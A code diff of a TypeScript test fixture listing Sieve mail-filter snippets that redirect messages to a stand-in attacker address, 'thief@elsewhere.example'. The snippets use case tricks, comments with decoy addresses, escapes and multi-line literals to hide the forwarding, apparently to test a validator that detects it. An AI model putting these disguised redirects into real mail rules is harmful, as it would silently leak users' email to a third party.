@@ -2,7 +2,8 @@
 export const disguisedRedirects: readonly string[] = [
   'redirect "thief@elsewhere.example";',
   'require "copy"; ReDiReCt\t:copy\r\n"thief@elsewhere.example"\n;',
-  'require "copy"; redirect/* harmless; */:copy # "anna@post.example";\n "thief@elsewhere.example" ;',
+  'require "copy"; redirect/* harmless; */:copy # "anna@post.example";\n' +
+    ' "thief@elsewhere.example" ;',
   'redirect "th\\ief@elsewhere\\.example";',
   'redirect text: # one line\r\nthief@elsewhere.example\r\n.\r\n;',
   'if true{if not anyof(false,header :is ["a","b"] "c")' +
